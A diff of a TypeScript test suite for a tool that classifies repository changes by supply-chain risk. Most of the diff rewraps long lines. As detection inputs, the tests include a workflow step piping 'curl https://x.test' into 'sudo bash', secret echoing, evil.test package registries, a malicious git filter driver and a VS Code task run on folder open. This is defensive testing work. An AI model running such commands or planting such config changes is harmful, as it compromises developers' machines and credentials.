@@ -6,47 +6,197 @@ import { classify, type Content } from '../src/review/lanes.ts';
 /** At least one real path for every rule. */
 const EXAMPLES: Readonly<Record<string, readonly string[]>> = {
   'package-manifest': ['package.json', 'packages/a/package.json', 'composer.json', 'deno.jsonc'],
-  'package-config': ['.npmrc', '.yarnrc.yml', '.pnpmfile.cjs', 'pnpm-workspace.yaml', '.yarn/releases/yarn.cjs', 'native/binding.gyp'],
-  'git-hooks': ['.husky/pre-commit', '.husky/_/husky.sh', '.githooks/x', 'lefthook.yml', '.pre-commit-config.yaml', 'tools/post-checkout'],
+  'package-config': [
+    '.npmrc',
+    '.yarnrc.yml',
+    '.pnpmfile.cjs',
+    'pnpm-workspace.yaml',
+    '.yarn/releases/yarn.cjs',
+    'native/binding.gyp',
+  ],
+  'git-hooks': [
+    '.husky/pre-commit',
+    '.husky/_/husky.sh',
+    '.githooks/x',
+    'lefthook.yml',
+    '.pre-commit-config.yaml',
+    'tools/post-checkout',
+  ],
   'git-attributes': ['.gitattributes', 'docs/.gitattributes', 'GITATT~1'],
   'git-modules': ['.gitmodules'],
   'git-config': ['.gitconfig', 'dotfiles/work.gitconfig'],
   repository: ['fixtures/repo.git/config', 'fixtures/bare/HEAD', '.hg/hgrc'],
   make: ['Makefile', 'GNUmakefile', 'rules/common.mk', 'Makefile.am'],
   'task-runner': ['justfile', 'Taskfile.yml', 'Rakefile', 'lib/tasks/db.rake', 'turbo.json', 'meson.build'],
-  'build-tool': ['BUILD.bazel', 'defs.bzl', 'configure.ac', 'build.sbt', 'mix.exs', 'Gemfile', 'App.csproj', 'Directory.Build.props', 'Package.swift'],
+  'build-tool': [
+    'BUILD.bazel',
+    'defs.bzl',
+    'configure.ac',
+    'build.sbt',
+    'mix.exs',
+    'Gemfile',
+    'App.csproj',
+    'Directory.Build.props',
+    'Package.swift',
+  ],
   cargo: ['build.rs', '.cargo/config.toml', '.cargo/config', 'rust-toolchain.toml'],
-  gradle: ['build.gradle', 'app/build.gradle.kts', 'gradlew', 'gradle/wrapper/gradle-wrapper.properties', 'buildSrc/src/main/X.java'],
+  gradle: [
+    'build.gradle',
+    'app/build.gradle.kts',
+    'gradlew',
+    'gradle/wrapper/gradle-wrapper.properties',
+    'buildSrc/src/main/X.java',
+  ],
   maven: ['pom.xml', 'mvnw', '.mvn/extensions.xml'],
   cmake: ['CMakeLists.txt', 'cmake/find.cmake', 'CMakePresets.json'],
   'python-project': ['pyproject.toml', 'setup.cfg', 'uv.toml'],
-  'python-startup': ['setup.py', 'tests/conftest.py', 'noxfile.py', 'tox.ini', 'lib/evil.pth', 'sitecustomize.py', '.pylintrc'],
-  'js-config': [
-    'vite.config.ts', 'webpack.config.js', 'webpack.prod.js', 'rollup.config.mjs', '.eslintrc.json', 'eslint.config.js', '.prettierrc', 'babel.config.json', 'jest.config.ts',
-    'vitest.config.mts', 'next.config.mjs', 'nuxt.config.ts', 'svelte.config.js', 'astro.config.mjs', 'postcss.config.cjs', 'tailwind.config.ts', 'playwright.config.ts',
-    'metro.config.js', 'gulpfile.babel.js', 'Gruntfile.js', 'commitlint.config.js', '.lintstagedrc.json', '.storybook/main.ts', 'anything.config.ts', '.foorc.js', 'karma.conf.js',
+  'python-startup': [
+    'setup.py',
+    'tests/conftest.py',
+    'noxfile.py',
+    'tox.ini',
+    'lib/evil.pth',
+    'sitecustomize.py',
+    '.pylintrc',
   ],
-  environment: ['.envrc', '.tool-versions', 'mise.toml', '.mise.local.toml', '.config/mise/config.toml', '.direnv/bin/x', 'devbox.json'],
+  'js-config': [
+    'vite.config.ts',
+    'webpack.config.js',
+    'webpack.prod.js',
+    'rollup.config.mjs',
+    '.eslintrc.json',
+    'eslint.config.js',
+    '.prettierrc',
+    'babel.config.json',
+    'jest.config.ts',
+    'vitest.config.mts',
+    'next.config.mjs',
+    'nuxt.config.ts',
+    'svelte.config.js',
+    'astro.config.mjs',
+    'postcss.config.cjs',
+    'tailwind.config.ts',
+    'playwright.config.ts',
+    'metro.config.js',
+    'gulpfile.babel.js',
+    'Gruntfile.js',
+    'commitlint.config.js',
+    '.lintstagedrc.json',
+    '.storybook/main.ts',
+    'anything.config.ts',
+    '.foorc.js',
+    'karma.conf.js',
+  ],
+  environment: [
+    '.envrc',
+    '.tool-versions',
+    'mise.toml',
+    '.mise.local.toml',
+    '.config/mise/config.toml',
+    '.direnv/bin/x',
+    'devbox.json',
+  ],
   nix: ['flake.nix', 'shell.nix'],
-  editor: ['.vscode/tasks.json', '.vscode', '.idea/runConfigurations/x.xml', '.zed/tasks.json', '.fleet/run.json', 'my.code-workspace', '.nvim.lua', '.dir-locals.el', '.exrc'],
-  container: ['.devcontainer/devcontainer.json', 'Dockerfile', 'Dockerfile.dev', 'docker-compose.override.yml', 'compose.yaml', 'Vagrantfile', 'Procfile', 'Procfile.dev'],
+  editor: [
+    '.vscode/tasks.json',
+    '.vscode',
+    '.idea/runConfigurations/x.xml',
+    '.zed/tasks.json',
+    '.fleet/run.json',
+    'my.code-workspace',
+    '.nvim.lua',
+    '.dir-locals.el',
+    '.exrc',
+  ],
+  container: [
+    '.devcontainer/devcontainer.json',
+    'Dockerfile',
+    'Dockerfile.dev',
+    'docker-compose.override.yml',
+    'compose.yaml',
+    'Vagrantfile',
+    'Procfile',
+    'Procfile.dev',
+  ],
   script: ['run.sh', 'a/b.bash', 'x.zsh', 'x.fish', 'x.ps1', 'x.bat', 'x.cmd', 'x.desktop'],
   'shell-start': ['.bashrc', '.profile', '.zshenv', '.ssh/config', '.gdbinit', '.config/fish/config.fish', '.Rprofile'],
-  'installed-code': ['node_modules/.bin/tsc', 'a/node_modules/x/index.js', '.venv/bin/python', 'vendor/autoload.php', 'src/__pycache__/x.cpython-312.pyc'],
+  'installed-code': [
+    'node_modules/.bin/tsc',
+    'a/node_modules/x/index.js',
+    '.venv/bin/python',
+    'vendor/autoload.php',
+    'src/__pycache__/x.cpython-312.pyc',
+  ],
   'native-code': ['x.exe', 'lib/x.so', 'lib/x.so.1', 'x.node', 'x.jar', 'x.pyc', 'x.wasm', 'x.dylib'],
   agent: [
-    'CLAUDE.md', 'CLAUDE.local.md', 'docs/AGENTS.md', 'GEMINI.md', '.claude/settings.json', '.claude/hooks/x', '.mcp.json', '.cursor/rules/x.mdc', '.codex/config.toml',
-    '.gemini/settings.json', '.github/copilot-instructions.md', '.aider.conf.yml', '.opencode/x', '.windsurfrules', '.clinerules', '.goosehints',
+    'CLAUDE.md',
+    'CLAUDE.local.md',
+    'docs/AGENTS.md',
+    'GEMINI.md',
+    '.claude/settings.json',
+    '.claude/hooks/x',
+    '.mcp.json',
+    '.cursor/rules/x.mdc',
+    '.codex/config.toml',
+    '.gemini/settings.json',
+    '.github/copilot-instructions.md',
+    '.aider.conf.yml',
+    '.opencode/x',
+    '.windsurfrules',
+    '.clinerules',
+    '.goosehints',
   ],
   ags: ['ags.yaml', 'sub/ags.yaml', '.ags/config', '.ags'],
-  'github-workflow': ['.github/workflows/ci.yml', '.github/actions/x/index.js', 'action.yml', '.forgejo/workflows/x.yaml'],
-  ci: [
-    '.gitlab-ci.yml', '.circleci/config.yml', 'azure-pipelines.yml', 'Jenkinsfile', '.buildkite/pipeline.yml', '.travis.yml', '.drone.yml', '.woodpecker.yml',
-    '.woodpecker/x.yml', 'bitbucket-pipelines.yml',
+  'github-workflow': [
+    '.github/workflows/ci.yml',
+    '.github/actions/x/index.js',
+    'action.yml',
+    '.forgejo/workflows/x.yaml',
   ],
-  'repository-rules': ['renovate.json', '.github/renovate.json5', '.github/dependabot.yml', 'CODEOWNERS', '.github/CODEOWNERS', '.mergify.yml'],
-  'secret-file': ['.env', '.env.production', 'app/.env.local', 'prod.env', 'certs/server.pem', 'x.key', 'id_rsa', 'id_ed25519.pub', '.netrc', 'secrets.yaml', '.aws/credentials'],
-  infrastructure: ['main.tf', 'ansible/site.yml', 'playbook.yml', 'roles/web/tasks/main.yml', 'k8s/app.yaml', 'Chart.yaml', 'helm/x', 'charts/a/templates/b.yaml', 'app.service'],
+  ci: [
+    '.gitlab-ci.yml',
+    '.circleci/config.yml',
+    'azure-pipelines.yml',
+    'Jenkinsfile',
+    '.buildkite/pipeline.yml',
+    '.travis.yml',
+    '.drone.yml',
+    '.woodpecker.yml',
+    '.woodpecker/x.yml',
+    'bitbucket-pipelines.yml',
+  ],
+  'repository-rules': [
+    'renovate.json',
+    '.github/renovate.json5',
+    '.github/dependabot.yml',
+    'CODEOWNERS',
+    '.github/CODEOWNERS',
+    '.mergify.yml',
+  ],
+  'secret-file': [
+    '.env',
+    '.env.production',
+    'app/.env.local',
+    'prod.env',
+    'certs/server.pem',
+    'x.key',
+    'id_rsa',
+    'id_ed25519.pub',
+    '.netrc',
+    'secrets.yaml',
+    '.aws/credentials',
+  ],
+  infrastructure: [
+    'main.tf',
+    'ansible/site.yml',
+    'playbook.yml',
+    'roles/web/tasks/main.yml',
+    'k8s/app.yaml',
+    'Chart.yaml',
+    'helm/x',
+    'charts/a/templates/b.yaml',
+    'app.service',
+  ],
   deployment: ['deploy.ts', 'deploy/prod.yml', 'netlify.toml', 'fly.toml', '.goreleaser.yml', 'vercel.json'],
   lockfile: ['package-lock.json', 'yarn.lock', 'pnpm-lock.yaml', 'Cargo.lock', 'go.sum', 'uv.lock'],
   dependencies: ['requirements.txt', 'requirements-dev.txt', 'go.mod', 'Cargo.toml', 'Pipfile'],
@@ -60,9 +210,40 @@ const EXAMPLES: Readonly<Record<string, readonly string[]>> = {
 };
 
 const INERT = [
-  'README.md', 'src/app.ts', 'src/hooks/useThing.ts', 'src/index.js', 'docs/guide.md', 'lib/parser.py', 'cmd/main.go', 'src/main.rs', 'LICENSE', 'a/b/c.txt', 'src/config.ts', 'src/make.ts',
-  'src/environment.ts', 'src/docker.ts', 'public/index.html', 'src/styles.css', 'app/models/user.rb', 'src/package.ts', 'my-package.json.md', 'src/git.ts', 'data.json', 'src/secrets.ts',
-  'src/charts/Bar.tsx', 'src/roles/admin.ts', 'src/inventory/list.ts', 'app/tasks.py', 'notclaude.md', 'xage.yaml', 'test/app.test.ts', 'i18n/de.json', 'src/build.ts', 'tsx/setup.ts',
+  'README.md',
+  'src/app.ts',
+  'src/hooks/useThing.ts',
+  'src/index.js',
+  'docs/guide.md',
+  'lib/parser.py',
+  'cmd/main.go',
+  'src/main.rs',
+  'LICENSE',
+  'a/b/c.txt',
+  'src/config.ts',
+  'src/make.ts',
+  'src/environment.ts',
+  'src/docker.ts',
+  'public/index.html',
+  'src/styles.css',
+  'app/models/user.rb',
+  'src/package.ts',
+  'my-package.json.md',
+  'src/git.ts',
+  'data.json',
+  'src/secrets.ts',
+  'src/charts/Bar.tsx',
+  'src/roles/admin.ts',
+  'src/inventory/list.ts',
+  'app/tasks.py',
+  'notclaude.md',
+  'xage.yaml',
+  'test/app.test.ts',
+  'i18n/de.json',
+  'src/build.ts',
+  'tsx/setup.ts',
+  'src/__snapshots__/a.tsx.snap',
+  'docs/deploy.rst',
 ];
 
 describe('the rules', () => {
@@ -70,42 +251,66 @@ describe('the rules', () => {
     expect(Object.keys(EXAMPLES)).toEqual(LANE_RULES.map((rule) => rule.id));
   });
 
-  test.each(LANE_RULES.map((rule) => [rule.id, rule] as const))('%s tells of its files, at any depth and in any case', (id, rule) => {
-    for (const example of EXAMPLES[id] ?? []) {
-      for (const path of [example, `packages/a/${example}`, example.toUpperCase(), `x/${example} `, `${example}.`]) expectRule(path, rule);
-    }
-  });
+  test.each(LANE_RULES.map((rule) => [rule.id, rule] as const))(
+    '%s tells of its files, at any depth and in any case',
+    (id, rule) => {
+      for (const example of EXAMPLES[id] ?? []) {
+        for (const path of [example, `packages/a/${example}`, example.toUpperCase(), `x/${example} `, `${example}.`])
+          expectRule(path, rule);
+      }
+    },
+  );
 
   test('hold for every one of their patterns', () => {
     for (const rule of LANE_RULES) {
       for (const pattern of rule.match) {
         expectRule(pattern.replace('/**', '/some/file').replaceAll('*', 'x'), rule);
-        expectRule(`deep/down/${pattern.replace('/**', '').replace('/*/', '/z/').replaceAll('*', '').replace(/\.$/, '.z').toUpperCase()}`, rule);
+        expectRule(
+          `deep/down/${pattern.replace('/**', '').replace('/*/', '/z/').replaceAll('*', '').replace(/\.$/, '.z').toUpperCase()}`,
+          rule,
+        );
       }
     }
   });
 
   test('are written once, and their sentences end', () => {
-    const patterns = [...LANE_RULES.flatMap((rule) => rule.match), ...MEDIA_FILES].map((pattern) => pattern.toLowerCase());
+    const patterns = [...LANE_RULES.flatMap((rule) => rule.match), ...MEDIA_FILES].map((pattern) =>
+      pattern.toLowerCase(),
+    );
     expect(patterns.filter((pattern, at) => patterns.indexOf(pattern) !== at)).toEqual([]);
     expect(patterns.filter((pattern) => /^$|\s|\/\/|^\/|\*\*[^/]|[^/]\*\*|\?|\[|\{/.test(pattern))).toEqual([]);
     expect(new Set(LANE_RULES.map((rule) => rule.reason)).size).toBe(LANE_RULES.length);
-    expect(LANE_RULES.filter((rule) => !/^[A-Z].*\.$/.test(rule.reason) && !/^(?:make|cargo) /.test(rule.reason))).toEqual([]);
+    expect(
+      LANE_RULES.filter((rule) => !/^[A-Z].*\.$/.test(rule.reason) && !/^(?:make|cargo) /.test(rule.reason)),
+    ).toEqual([]);
     expect(TEST_FILES.length).toBe(new Set(TEST_FILES).size);
   });
 
   test('say nothing about ordinary files', () => {
-    for (const path of INERT) expect(classify({ path, before: file('a\n'), after: file('b\n') }), path).toEqual({ lane: 'inert', reasons: [] });
+    for (const path of INERT)
+      expect(classify({ path, before: file('a\n'), after: file('b\n') }), path).toEqual({ lane: 'inert', reasons: [] });
   });
 
   test('look-only rules leave the lane inert', () => {
-    expect(classify({ path: '.nvmrc', before: null, after: file('20\n') })).toEqual({ lane: 'inert', reasons: ['Chooses the version of a tool that others then run.'] });
+    expect(classify({ path: '.nvmrc', before: null, after: file('20\n') })).toEqual({
+      lane: 'inert',
+      reasons: ['Chooses the version of a tool that others then run.'],
+    });
   });
 
   test('are not stepped around by spelling', () => {
     for (const path of [
-      'PACKAGE.JSON', './package.json', 'package.json.', 'package.json ', 'a\\package.json', 'package.json::$DATA', 'pac\u212aage.json', 'pack\u200bage.json', 'ｐackage.json',
-      'pac\u00adkage.json', 'package.j\u017fon',
+      'PACKAGE.JSON',
+      './package.json',
+      'package.json.',
+      'package.json ',
+      'a\\package.json',
+      'package.json::$DATA',
+      'pac\u212aage.json',
+      'pack\u200bage.json',
+      'ｐackage.json',
+      'pac\u00adkage.json',
+      'package.j\u017fon',
     ]) {
       expect(classify({ path, before: null, after: file('{}') }).lane, path).toBe('host');
     }
@@ -114,7 +319,10 @@ describe('the rules', () => {
   });
 
   test('count for a deleted file', () => {
-    expect(classify({ path: 'Makefile', before: file('all:\n'), after: null })).toEqual({ lane: 'host', reasons: ['make runs the recipes in it.', 'It is deleted.'] });
+    expect(classify({ path: 'Makefile', before: file('all:\n'), after: null })).toEqual({
+      lane: 'host',
+      reasons: ['make runs the recipes in it.', 'It is deleted.'],
+    });
   });
 
   test('count for both names of a rename', () => {
@@ -123,7 +331,10 @@ describe('the rules', () => {
       lane: 'host',
       reasons: ['make runs the recipes in it. Its name was Makefile.'],
     });
-    expect(classify({ path: 'Makefile', from: 'notes.txt', before: same, after: same })).toEqual({ lane: 'host', reasons: ['make runs the recipes in it.'] });
+    expect(classify({ path: 'Makefile', from: 'notes.txt', before: same, after: same })).toEqual({
+      lane: 'host',
+      reasons: ['make runs the recipes in it.'],
+    });
   });
 
   test('the stricter of two rules decides, and comes first', () => {
@@ -142,7 +353,11 @@ describe('inside known files', () => {
 
   test('install scripts of a package are told first', () => {
     const before = JSON.stringify({ scripts: { test: 'vitest', old: 'x' }, dependencies: { a: '1' } });
-    const after = JSON.stringify({ scripts: { test: 'vitest; x', postinstall: 'node x.js' }, dependencies: { a: '1', b: 'git+ssh://u:p@evil.test/b' }, type: 'module' });
+    const after = JSON.stringify({
+      scripts: { test: 'vitest; x', postinstall: 'node x.js' },
+      dependencies: { a: '1', b: 'git+ssh://u:p@evil.test/b' },
+      type: 'module',
+    });
     expect(classify({ path: 'package.json', before: file(before), after: file(after) })).toEqual({
       lane: 'host',
       reasons: [
@@ -157,22 +372,43 @@ describe('inside known files', () => {
   });
 
   test('a byte order mark, broken JSON or odd values hide no script', () => {
-    expect(facts('package.json', null, '\ufeff{"scripts":{"prepare":"x"}}').slice(0, 1)).toEqual(['Adds script prepare: x']);
-    expect(facts('package.json', '{}', '{"scripts":')).toEqual(['It is not valid JSON, so its scripts could not be compared.']);
+    expect(facts('package.json', null, '\ufeff{"scripts":{"prepare":"x"}}').slice(0, 1)).toEqual([
+      'Adds script prepare: x',
+    ]);
+    expect(facts('package.json', '{}', '{"scripts":')).toEqual([
+      'It is not valid JSON, so its scripts could not be compared.',
+    ]);
     expect(facts('package.json', '[]', '[]')).toEqual(['It is not valid JSON, so its scripts could not be compared.']);
-    expect(facts('package.json', '{}', '{"scripts":{"__proto__":"x","install":["a"]}}')).toEqual(['Adds script install: ["a"]', 'Adds script __proto__: x']);
-    expect(facts('package.json', '{}', '{"scripts":{"a\\u001b[2J":"b\\u202e\\n"}}')).toEqual(['Adds script a\\x1b[2J: b<U+202E>']);
+    expect(facts('package.json', '{}', '{"scripts":{"__proto__":"x","install":["a"]}}')).toEqual([
+      'Adds script install: ["a"]',
+      'Adds script __proto__: x',
+    ]);
+    expect(facts('package.json', '{}', '{"scripts":{"a\\u001b[2J":"b\\u202e\\n"}}')).toEqual([
+      'Adds script a\\x1b[2J: b<U+202E>',
+    ]);
   });
 
   test('a harmless file that becomes a manifest is new in all it says', () => {
     const text = file('{"scripts":{"postinstall":"x"}}');
-    expect(classify({ path: 'package.json', from: 'notes.json', before: text, after: text }).reasons[0]).toBe('Adds script postinstall: x');
+    expect(classify({ path: 'package.json', from: 'notes.json', before: text, after: text }).reasons[0]).toBe(
+      'Adds script postinstall: x',
+    );
   });
 
   test('a manifest that is a link, binary or huge is not called harmless', () => {
-    expect(classify({ path: 'package-lock.json', before: null, after: { mode: '100644', text: null, bytes: 9e6, head: new Uint8Array([123]) } })).toEqual({
+    expect(
+      classify({
+        path: 'package-lock.json',
+        before: null,
+        after: { mode: '100644', text: null, bytes: 9e6, head: new Uint8Array([123]) },
+      }),
+    ).toEqual({
       lane: 'host',
-      reasons: ['It could not be searched for changes that matter.', 'Fixes which code an install downloads.', 'Binary or too large to show, 9000000 bytes; its content was not checked.'],
+      reasons: [
+        'It could not be searched for changes that matter.',
+        'Fixes which code an install downloads.',
+        'Binary or too large to show, 9000000 bytes; its content was not checked.',
+      ],
     });
   });
 
@@ -182,7 +418,13 @@ describe('inside known files', () => {
   });
 
   test('drivers and hidden diffs in .gitattributes', () => {
-    expect(facts('.gitattributes', '*.txt text\n', '*.txt text\n*.bin filter=evil -text\n* -diff\n*.lock binary\nsrc/** linguist-generated=true\n[attr]x y\n')).toEqual([
+    expect(
+      facts(
+        '.gitattributes',
+        '*.txt text\n',
+        '*.txt text\n*.bin filter=evil -text\n* -diff\n*.lock binary\nsrc/** linguist-generated=true\n[attr]x y\n',
+      ),
+    ).toEqual([
       'Sends *.bin through the filter driver "evil".',
       'Hides the diff of * (-diff).',
       'Hides the diff of *.lock (binary).',
@@ -192,7 +434,9 @@ describe('inside known files', () => {
   });
 
   test('addresses and commands in .gitmodules', () => {
-    expect(facts('.gitmodules', null, '[submodule "a"]\n\tpath = lib\n\turl = https://evil.test/a\n\tupdate = !sh x\n')).toEqual([
+    expect(
+      facts('.gitmodules', null, '[submodule "a"]\n\tpath = lib\n\turl = https://evil.test/a\n\tupdate = !sh x\n'),
+    ).toEqual([
       'Places a submodule at lib',
       'Sets the address of a submodule: https://evil.test/a',
       'Sets how a submodule is updated, which can be a command: !sh x',
@@ -201,9 +445,9 @@ describe('inside known files', () => {
 
   test('permissions, triggers and loose ends in workflows', () => {
     const before = 'on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n';
-    const after = `on: [push, pull_request_target]\npermissions: write-all\njobs:\n  a:\n    permissions:\n      contents: write\n      issues: read\n    runs-on: self-hosted\n    steps:
+    const after = `on: [push, pull_request_target]\npermissions: write-all\njobs:\n  a:\n    permissions:\n      contents: write\n      issues: read\n    permissions: {}\n    runs-on: self-hosted\n    steps:
       - uses: actions/checkout@v4\n      - uses: x/y@main\n      - uses: ./local\n      - uses: x/z@${'a'.repeat(40)} # v1\n      - run: curl https://x.test | sudo bash
-      - run: echo \${{ secrets.TOKEN }} \${{ github.event.issue.title }}\n`;
+      - run: echo \${{ secrets.TOKEN }} \${{ github.event.issue.title }} \${{ github.event.number }}\n`;
     expect(facts('.github/workflows/ci.yml', before, after)).toEqual([
       "Runs on pull_request_target: a stranger's pull request meets this repository's secrets.",
       'Sets permissions: write-all',
@@ -222,9 +466,20 @@ describe('inside known files', () => {
   });
 
   test('another registry in a lock file', () => {
-    const lock = (...urls: string[]): string => JSON.stringify({ lockfileVersion: 3, packages: Object.fromEntries(urls.map((resolved, at) => [`node_modules/p${at}`, { version: '1', resolved, funding: { url: 'https://sponsor.test/x' } }])) });
+    const lock = (...urls: string[]): string =>
+      JSON.stringify({
+        lockfileVersion: 3,
+        packages: Object.fromEntries(
+          urls.map((resolved, at) => [
+            `node_modules/p${at}`,
+            { version: '1', resolved, funding: { url: 'https://sponsor.test/x' } },
+          ]),
+        ),
+      });
     const base = lock('https://registry.test/a.tgz');
-    expect(classify({ path: 'package-lock.json', before: file(base), after: file(lock('https://registry.test/b.tgz')) })).toEqual({
+    expect(
+      classify({ path: 'package-lock.json', before: file(base), after: file(lock('https://registry.test/b.tgz')) }),
+    ).toEqual({
       lane: 'inert',
       reasons: ['Fixes which code an install downloads.'],
     });
@@ -241,7 +496,14 @@ describe('inside known files', () => {
       ['git+ssh://git@evil.test/a.git', 'git+ssh://evil.test'],
       ['file:../evil', 'file:'],
     ] as const) {
-      expect(classify({ path: 'package-lock.json', before: file(base), after: file(lock('https://registry.test/a.tgz', url)) }), url).toEqual({
+      expect(
+        classify({
+          path: 'package-lock.json',
+          before: file(base),
+          after: file(lock('https://registry.test/a.tgz', url)),
+        }),
+        url,
+      ).toEqual({
         lane: 'host',
         reasons: [`Takes packages from ${origin}, which it did not before.`, 'Fixes which code an install downloads.'],
       });
@@ -249,13 +511,19 @@ describe('inside known files', () => {
   });
 
   test('a package called like a field for readers hides no address', () => {
-    expect(facts('package-lock.json', '{}', '{"dependencies":{"license":{"version":"1","resolved":"https://evil.test/x"}}}')).toEqual(['Takes packages from https://evil.test, which it did not before.']);
+    expect(
+      facts('package-lock.json', '{}', '{"dependencies":{"license":{"version":"1","resolved":"https://evil.test/x"}}}'),
+    ).toEqual(['Takes packages from https://evil.test, which it did not before.']);
   });
 
   test('other lock files are read as text, and spelled-out addresses are told', () => {
     const yarn = 'a@1:\n  resolved "https://registry.test/a.tgz"\n';
-    expect(facts('yarn.lock', yarn, `${yarn}b@1:\n  resolved "https://evil.test/b.tgz"\n`)).toEqual(['Takes packages from https://evil.test, which it did not before.']);
-    expect(facts('Cargo.lock', '', 'source = "registry+https://evil.test/index"\n')).toEqual(['Takes packages from registry+https://evil.test, which it did not before.']);
+    expect(facts('yarn.lock', yarn, `${yarn}b@1:\n  resolved "https://evil.test/b.tgz"\n`)).toEqual([
+      'Takes packages from https://evil.test, which it did not before.',
+    ]);
+    expect(facts('Cargo.lock', '', 'source = "registry+https://evil.test/index"\n')).toEqual([
+      'Takes packages from registry+https://evil.test, which it did not before.',
+    ]);
     expect(facts('pnpm-lock.yaml', '', 'tarball: "\\x68ttps://evil.test"\nhomepage: https://fine.test\n')).toEqual([
       'Contains escaped characters, which can hide an address.',
     ]);
@@ -263,28 +531,46 @@ describe('inside known files', () => {
 
   test('the build backend of a Python project', () => {
     const before = '[build-system]\nrequires = ["hatchling"]\n[project]\nname = "x"\n';
-    expect(facts('pyproject.toml', before, `${before.replace('"hatchling"', '"evil"')}version = "2"\n[project.scripts]\nx = "x:main"\n`)).toEqual([
-      'Adds to [build-system]: requires = ["evil"]',
-      'Adds to [project.scripts]: [project.scripts]',
-      'Adds to [project.scripts]: x = "x:main"',
-    ]);
+    expect(
+      facts(
+        'pyproject.toml',
+        before,
+        `${before.replace('"hatchling"', '"evil"')}version = "2"\n[project.scripts]\nx = "x:main"\n`,
+      ),
+    ).toEqual(['Adds to [build-system]: requires = ["evil"]', 'Adds to [project.scripts]: x = "x:main"']);
   });
 
   test('where packages come from', () => {
-    expect(facts('.npmrc', '', 'registry=https://secret@evil.test/\nignore-scripts=false\nscript-shell=/tmp/x\n')).toEqual([
+    expect(
+      facts('.npmrc', '', 'registry=https://secret@evil.test/\nignore-scripts=false\nscript-shell=/tmp/x\n'),
+    ).toEqual([
       'Takes packages from another place: registry = https://…@evil.test/',
       'Changes a safeguard of installs: ignore-scripts = false',
       'Names a program or file to use: script-shell = /tmp/x',
     ]);
-    expect(classify({ path: 'requirements.txt', before: file('a\n'), after: file('a\n--index-url https://evil.test\n') })).toEqual({
+    expect(
+      classify({ path: 'requirements.txt', before: file('a\n'), after: file('a\n--index-url https://evil.test\n') }),
+    ).toEqual({
       lane: 'host',
-      reasons: ['Takes packages from another place: https://evil.test', 'Takes code from https://evil.test', 'Names the code of others that this project uses.'],
+      reasons: [
+        'Takes packages from another place: https://evil.test',
+        'Takes code from https://evil.test',
+        'Names the code of others that this project uses.',
+      ],
     });
-    expect(facts('Cargo.toml', '', '[package]\nrepository = "https://x.test"\nbuild = "x.rs"\n')).toEqual(['Names a build script: "x.rs"']);
+    expect(facts('Cargo.toml', '', '[package]\nrepository = "https://x.test"\nbuild = "x.rs"\n')).toEqual([
+      'Names a build script: "x.rs"',
+    ]);
   });
 
   test('tasks that run when a folder is opened', () => {
-    expect(facts('.vscode/tasks.json', null, '{"tasks":[{\n"command": "curl x",\n"runOptions": {"runOn": "folderOpen"}}]}\n')).toEqual([
+    expect(
+      facts(
+        '.vscode/tasks.json',
+        null,
+        '{"tasks":[{\n"command": "curl x",\n"runOptions": {"runOn": "folderOpen"}}]}\n',
+      ),
+    ).toEqual([
       'Sets command: "curl x",',
       'A task runs as soon as the folder is opened.',
       'Sets runOptions: {"runOn": "folderOpen"}}]}',
@@ -293,54 +579,158 @@ describe('inside known files', () => {
 });
 
 describe('any file', () => {
-  const cases: readonly (readonly [name: string, input: Parameters<typeof classify>[0], expected: ReturnType<typeof classify>])[] = [
-    ['that becomes executable', { path: 'tool.py', before: file('x'), after: { ...file('x'), mode: '100755' } }, { lane: 'host', reasons: ['Becomes executable.'] }],
-    ['that stays executable', { path: 'tool.py', before: { ...file('x'), mode: '100755' }, after: { ...file('y'), mode: '100755' } }, { lane: 'inert', reasons: [] }],
-    ['that is no longer executable', { path: 'a', before: { ...file('x'), mode: '100755' }, after: file('x') }, { lane: 'inert', reasons: ['Is no longer executable.'] }],
-    ['that is a script without an extension', { path: 'bin/tool', before: null, after: file('#!/usr/bin/env node\n') }, { lane: 'host', reasons: ['A script run by /usr/bin/env node.'] }],
-    ['that is an executable script with one', { path: 'a.py', before: { ...file(''), mode: '100755' }, after: { ...file('#! /bin/py\u001b\n'), mode: '100755' } }, {
-      lane: 'host',
-      reasons: ['A script run by /bin/py\\x1b.', 'Adds invisible or text-reordering characters: U+001B.'],
-    }],
-    ['that only begins like a script', { path: 'lib', before: null, after: file('#![no_std]\n') }, { lane: 'inert', reasons: [] }],
-    ['that is a program', { path: 'a.png', before: null, after: binary([0x7f, 0x45, 0x4c, 0x46]) }, { lane: 'host', reasons: ['An ELF program or library, 70 bytes.'] }],
-    ['that is a Windows program', { path: 'a.dat', before: null, after: binary([0x4d, 0x5a]) }, { lane: 'host', reasons: ['A Windows program or library, 70 bytes.'] }],
-    ['that is a macOS program', { path: 'a.dat', before: null, after: binary([0xcf, 0xfa, 0xed, 0xfe]) }, { lane: 'host', reasons: ['A macOS program or library, 70 bytes.'] }],
-    ['that is a huge script', { path: 'a', before: null, after: binary([0x23, 0x21]) }, { lane: 'host', reasons: ['A large or binary script with an interpreter line, 70 bytes.'] }],
-    ['that is a picture', { path: 'a.png', before: null, after: { mode: '100644', text: null, bytes: 70 } }, {
-      lane: 'inert',
-      reasons: ['Binary or too large to show, 70 bytes; its content was not checked.'],
-    }],
-    ['that could not be looked into at all', { path: 'a.dat', before: null, after: { mode: '100644', text: null, bytes: 70 } }, {
-      lane: 'host',
-      reasons: ['Binary or too large to show, 70 bytes; its content was not checked.'],
-    }],
-    ['with hidden characters', { path: 'a.ts', before: file('x\u200b\n'), after: file('x\u200b\nif (a\u202e\u2066) {}\n') }, {
-      lane: 'inert',
-      reasons: ['Adds invisible or text-reordering characters: U+202E, U+2066.'],
-    }],
-    ['with Windows line ends', { path: 'a.ts', before: null, after: file('a\r\nb\r\n') }, { lane: 'inert', reasons: [] }],
-    ['with a very long line', { path: 'a.ts', before: null, after: file(`a\n${'x'.repeat(2001)}`) }, { lane: 'inert', reasons: ['Line 2 has 2001 characters.'] }],
-    ['with code pushed out of sight', { path: 'a.ts', before: null, after: file(`ok();${' '.repeat(150)}evil();\n`) }, {
-      lane: 'inert',
-      reasons: ['Line 1 has text far to the right, after a long run of blanks.'],
-    }],
-    ['with a private key', { path: 'a.ts', before: file('a\n'), after: file('a\n-----BEGIN RSA PRIVATE KEY-----\n') }, { lane: 'ci', reasons: ['Line 2 looks like a private key.'] }],
-    ['with a secret that was there before', { path: 'a.ts', before: file(`AKIA${'A'.repeat(16)}\n`), after: file(`b\nAKIA${'A'.repeat(16)}\n`) }, { lane: 'inert', reasons: [] }],
